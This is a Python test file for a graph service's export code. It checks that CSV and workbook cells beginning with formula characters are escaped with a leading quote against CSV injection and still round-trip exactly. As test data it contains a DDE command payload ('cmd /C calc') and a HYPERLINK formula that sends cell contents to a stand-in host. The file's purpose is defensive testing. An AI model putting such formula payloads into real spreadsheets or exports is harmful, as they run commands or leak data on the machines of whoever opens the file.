"""No exported cell is ever run by a spreadsheet, and every value still comes back exactly.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed is
written with a ``'`` in front (OWASP "CSV Injection"); so is a cell starting with ``'`` and
then one of those or another ``'``, so that the reader knows which quote to take off. The
bundle export (folder, zip, workbook), the API's CSV export and the CLI's ``--format csv``
all do it; bundle export -> import -> export still gives the same bytes on both stores.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import os
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests_support import PKG_PARENT
from tests_support.api import Api, api_on
from tests_support.cli import run
from tests_support.counties import DDE, HOSTILE

from graphsvc.bundle.schema import FILES, FORMULA_TRIGGERS, escape_formula, unescape_formula
from graphsvc.bundle.writer import escaped, write_bundle
from graphsvc.importer import export_path, import_path
from graphsvc.stores.base import Store
from graphsvc.stores.embedded import EmbeddedStore

AS_OF = "2026-06-30"


def data_cells(text: str) -> list[list[str]]:
    """The rows of a CSV text as a spreadsheet splits them, header left out."""
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))[1:]


def assert_inert(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_TRIGGERS, f"{where}: {cell!r} would run as a formula"


def written(folder: Path) -> dict[str, bytes]:
    return {spec.filename: (folder / spec.filename).read_bytes() for spec in FILES}


# -- the rule -------------------------------------------------------------------------------------

@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"), ("+8613800000000", "'+8613800000000"), ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"),
    ("'=1+1", "''=1+1"), ("''", "'''"), ("'-", "''-"),
    ("'", "'"), ("'abc", "'abc"), ("it's", "it's"), ("a=b", "a=b"), (" =1", " =1"),
    ("王=五", "王=五"), ("", ""),
])
def test_escape_rule(value: str, cell: str) -> None:
    assert escape_formula(value) == cell
    assert unescape_formula(cell) == value


@pytest.mark.parametrize("cell,value", [
    ("'=1+1", "=1+1"),  # Excel's own text prefix means the same
    ("''x", "'x"), ("'abc", "'abc"), ("'", "'"), ("=1+1", "=1+1"), ("abc", "abc"),
])
def test_unescape_of_hand_written_cells(cell: str, value: str) -> None:
    assert unescape_formula(cell) == value


def test_every_short_text_round_trips_and_no_cell_starts_a_formula() -> None:
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "a", " ", "王"]
    n = 0
    for k in range(6):
        for chars in itertools.product(alphabet, repeat=k):
            text = "".join(chars)
            cell = escape_formula(text)
            assert escaped([text]) == [cell]  # the writer's inlined copy of the rule
            assert unescape_formula(cell) == text, repr(text)
            assert cell[:1] not in FORMULA_TRIGGERS, repr(text)
            assert cell == text or cell == "'" + text
            n += 1
    assert n == sum(len(alphabet) ** k for k in range(6))


# -- hand-written bundles -------------------------------------------------------------------------

def test_hand_written_bundle_reads_as_before(tmp_path: Path) -> None:
    """Without the escape, every value reads as it is, except a cell that starts with ' and
    then a trigger or another ': the one form the export writes, whose quote is taken off."""
    b = tmp_path / "hand"
    b.mkdir()
    (b / "townships.csv").write_text(
        "id,name\nT1,'abc\nT2,it's\nT3,'\nT4,'=1+1\nT5,''x\nT6,\"a,'b\"\n'T7,x\n", encoding="utf-8")
    with EmbeddedStore(tmp_path / "s") as s:
        assert import_path(s, b).ok
        names = {r["id"]: r["name"] for r in s.records()["townships"]}
        assert names == {"T1": "'abc", "T2": "it's", "T3": "'", "T4": "=1+1", "T5": "'x",
                         "T6": "a,'b", "'T7": "x"}
        export_path(s, tmp_path / "out")
    assert (tmp_path / "out" / "townships.csv").read_text(encoding="utf-8") == (
        "id,name\n'T7,x\nT1,'abc\nT2,it's\nT3,'\nT4,'=1+1\nT5,'x\nT6,\"a,'b\"\n")


# -- the bundle export ----------------------------------------------------------------------------

def test_bundle_export_is_inert_and_round_trips(store: Store, tmp_path: Path) -> None:
    write_bundle(HOSTILE, tmp_path / "in")
    for spec in FILES:  # the bundle written from the records: every cell inert, no row split
        rows = data_cells((tmp_path / "in" / spec.filename).read_text(encoding="utf-8"))
        assert len(rows) == len(HOSTILE[spec.name]), spec.name
        assert_inert(rows, spec.filename)
    townships = (tmp_path / "in" / "townships.csv").read_text(encoding="utf-8")
    assert townships == "id,name\n'=T1,'=cmd|' /C calc'!A0\n"

    report = import_path(store, tmp_path / "in")
    assert report.ok, [str(p) for p in report.errors]
    recs = store.records()
    for name in ("townships", "villages", "organizations", "units", "people", "households"):
        text_cols = [c.name for c in next(s for s in FILES if s.name == name).columns
                     if c.type in ("id", "text", "ref")]
        got = sorted(tuple(r[c] for c in text_cols) for r in recs[name])
        want = sorted(tuple(r[c] for c in text_cols) for r in HOSTILE[name])
        assert got == want, name  # stored exactly, without the escape
    assert recs["contacts"][0]["request"] == DDE

    # folder, zip and workbook exports: inert, and the same bytes again after a round trip
    export_path(store, tmp_path / "out")
    assert written(tmp_path / "out") == written(tmp_path / "in")
    export_path(store, tmp_path / "out.zip")
    with zipfile.ZipFile(tmp_path / "out.zip") as zf:
        assert {n: zf.read(n) for n in zf.namelist()} == written(tmp_path / "in")
    export_path(store, tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as zf:
        for n in zf.namelist():
            if n.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(n) and b"<f " not in zf.read(n), n
    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if cell.value is not None:
                    # text, or a date cell (never a formula, never a number)
                    assert cell.data_type == "s" or (cell.is_date and isinstance(
                        cell.value, dt.datetime)), (ws.title, cell.coordinate, cell.value)
                    assert str(cell.value)[:1] not in FORMULA_TRIGGERS, (ws.title, cell.value)
    assert wb["townships"]["A2"].value == "'=T1"
    wb.close()
    for source in ("out", "out.zip", "out.xlsx"):
        with EmbeddedStore(tmp_path / f"again-{source}") as again:
            report = import_path(again, tmp_path / source)
            assert report.ok, (source, [str(p) for p in report.errors])
            export_path(again, tmp_path / f"again-{source}-out")
        assert written(tmp_path / f"again-{source}-out") == written(tmp_path / "in"), source


# -- the API's CSV export -------------------------------------------------------------------------

@pytest.fixture
def hostile_api(store: Store, tmp_path: Path) -> Iterator[Api]:
    write_bundle(HOSTILE, tmp_path / "hostile")
    assert import_path(store, tmp_path / "hostile").ok
    yield from api_on(store, tmp_path / "api")


def test_api_csv_export_is_inert(hostile_api: Api) -> None:
    api = hostile_api
    body = api.get("/api/v1/exports/households", as_of=AS_OF)
    assert {i["household_id"] for i in body["items"]} == {"+H1", "'H2"}
    r = api.client.get("/api/v1/exports/households", headers=api.admin,
                       params={"as_of": AS_OF, "format": "csv"})
    assert r.status_code == 200
    text = r.content.decode("utf-8")
    rows = data_cells(text)
    assert len(rows) == len(body["items"])
    assert_inert(rows, "exports/households.csv")
    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    by_id = {unescape_formula(row[0]): dict(zip(header, row)) for row in rows}
    h1 = by_id["+H1"]
    assert (h1["household_id"], h1["village_id"], h1["township_id"]) == ("'+H1", "'+V1", "'=T1")
    assert h1["member_ids"] == "'M1"
    # every cell, unescaped, is the JSON body's value
    for item in body["items"]:
        row = by_id[item["household_id"]]
        for col, value in item.items():
            if isinstance(value, list):
                value = ";".join(value)
            elif isinstance(value, bool):
                value = "true" if value else "false"
            elif value is None:
                value = ""
            assert unescape_formula(row[col]) == str(value), (col, row[col], value)


# -- the CLI's --format csv -----------------------------------------------------------------------

def test_cli_csv_is_inert(tmp_path: Path) -> None:
    env = {"GRAPHSVC_DATA_DIR": str(tmp_path / "data")}
    write_bundle(HOSTILE, tmp_path / "hostile")
    r = run(["import", str(tmp_path / "hostile")], env, tmp_path)
    assert r.returncode == 0, r.stderr
    r = run(["audit", "households", "--as-of", AS_OF, "--format", "csv"], env, tmp_path)
    assert r.returncode == 0, r.stderr
    rows = data_cells(r.stdout)
    assert len(rows) == 2
    assert_inert(rows, "audit households")
    assert {row[0] for row in rows} == {"'+H1", "'H2"}
    r = run(["audit", "delegates", "--as-of", AS_OF, "--format", "csv"], env, tmp_path)
    assert r.returncode == 0, r.stderr
    text = r.stdout.lstrip("\ufeff")
    rows = data_cells(text)
    assert_inert(rows, "audit delegates")
    head = next(csv.reader(io.StringIO(text)))
    (delegate,) = [dict(zip(head, row)) for row in rows]
    assert (delegate["delegate_id"], delegate["name"]) == ("'''D1", "'''")
    assert delegate["committee_member_ids"] == "'=C1"
    assert delegate["member_count"] == "1"  # numbers stay numbers
    # the bytes as written (text mode would turn the CR into a line feed on the way)
    full = {k: v for k, v in os.environ.items() if not k.startswith("GRAPHSVC_")}
    raw = subprocess.run([sys.executable, "-m", "graphsvc", "audit", "members", "--as-of", AS_OF,
                          "--format", "csv"], env={**full, **env, "PYTHONPATH": PKG_PARENT},
                         cwd=tmp_path, capture_output=True, timeout=600, check=True).stdout
    rows = data_cells(raw.decode("utf-8"))
    assert_inert(rows, "audit members")
    names = {unescape_formula(row[1]) for row in rows}
    assert '\r=HYPERLINK("http://example.invalid/?"&A1,"x")' in names  # the CR kept in quotes
    r = run(["summary", "--as-of", AS_OF, "--format", "csv"], env, tmp_path)
    assert "households,2" in r.stdout.splitlines()
    r = run(["audit", "households", "--as-of", AS_OF, "--format", "json"], env, tmp_path)
    assert {i["household_id"] for i in json.loads(r.stdout)["items"]} == {"+H1", "'H2"}


# -- random values, both stores ------------------------------------------------------------------

PREFIXES = ["", "=", "+", "-", "@", "'", "''", "'=", "'+", "'''", "'a", "\t", "\r", "\n",
            "`", "$x", "{", "\"", "_x000D_", " "]
texts = st.builds(
    lambda p, rest: p + rest,
    st.sampled_from(PREFIXES),
    st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\",;`{}$ _x0D5F王a1")), max_size=8),
).filter(lambda s: s.strip() != "")
opt_texts = st.one_of(st.none(), texts)
opt_phones = st.one_of(st.none(), st.sampled_from(
    ["+86 139 0000 0001", "+8613900000002", "+86-139-0000-0003", "13900000004",
     "010-12345678", "0571-8888123转12"]))
id_prefixes = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'@", "'''", "`", "{",
                               "$", "\"", "_x0041_"])


@st.composite
def hostile_bundles(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
    t = [{"id": draw(id_prefixes) + f"T{i}", "name": draw(texts)}
         for i in range(draw(st.integers(1, 2)))]
    v = [{"id": draw(id_prefixes) + f"V{i}", "name": draw(texts),
          "township_id": draw(st.sampled_from(t))["id"], "needs_pairing": False}
         for i in range(draw(st.integers(1, 3)))]
    vids = [x["id"] for x in v]
    people = [{"id": draw(id_prefixes) + f"P{i}", "name": draw(texts),
               "roles": ["delegate"] if i == 0 else [], "status": "active", "inactive_since": None,
               "hardship": False, "organization_id": None, "township_id": None,
               "village_id": draw(st.sampled_from(vids)), "phone": draw(opt_phones)}
              for i in range(draw(st.integers(2, 4)))]
    households = [{"id": draw(id_prefixes) + f"H{i}", "head_name": draw(texts),
                   "village_id": draw(st.sampled_from(vids)), "categories": [], "size": None,
                   "status": "active", "inactive_since": None, "phone": draw(opt_phones),
                   "address": draw(opt_texts)} for i in range(draw(st.integers(1, 4)))]
    liaisons = [{"kind": "delegate-member", "from_id": people[0]["id"], "to_id": p["id"],
                 "since": None, "until": None} for p in people[1:]]
    liaisons += [{"kind": "member-household", "from_id": draw(st.sampled_from(people))["id"],
                  "to_id": h["id"], "since": None, "until": None} for h in households]
    contacts = [{"person_id": draw(st.sampled_from(people))["id"],
                 "household_id": draw(st.sampled_from(households))["id"],
                 "date": "2026-01-0" + str(d),
                 "channel": "visit", "request": draw(opt_texts), "resolved": False}
                for d in range(1, draw(st.integers(0, 3)) + 1)]
    return {"townships": t, "villages": v, "people": people, "households": households,
            "liaisons": liaisons, "contacts": contacts}


@settings(max_examples=30, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=hostile_bundles())
def test_random_hostile_values_round_trip_on_both_stores(
        data: dict[str, list[dict[str, Any]]], neo4j_shared: Store) -> None:
    from tests_support import clear

    with tempfile.TemporaryDirectory() as tmp:
        t = Path(tmp)
        write_bundle(data, t / "in")
        write_bundle(data, t / "in.xlsx")
        for spec in FILES:
            assert_inert(data_cells((t / "in" / spec.filename).read_text(encoding="utf-8")),
                         spec.filename)
        clear(neo4j_shared)
        with EmbeddedStore(t / "emb") as emb, EmbeddedStore(t / "xl") as xl:
            for s, source in ((emb, "in"), (neo4j_shared, "in"), (xl, "in.xlsx")):
                report = import_path(s, t / source)
                assert report.ok, [str(p) for p in report.errors]
                names = {r["id"]: r["name"] for r in s.records()["people"]}
                assert names == {p["id"]: p["name"] for p in data["people"]}
                out = t / f"out-{s.kind}-{source.replace('.', '-')}"
                export_path(s, out)
                assert written(out) == written(t / "in"), (s.kind, source)
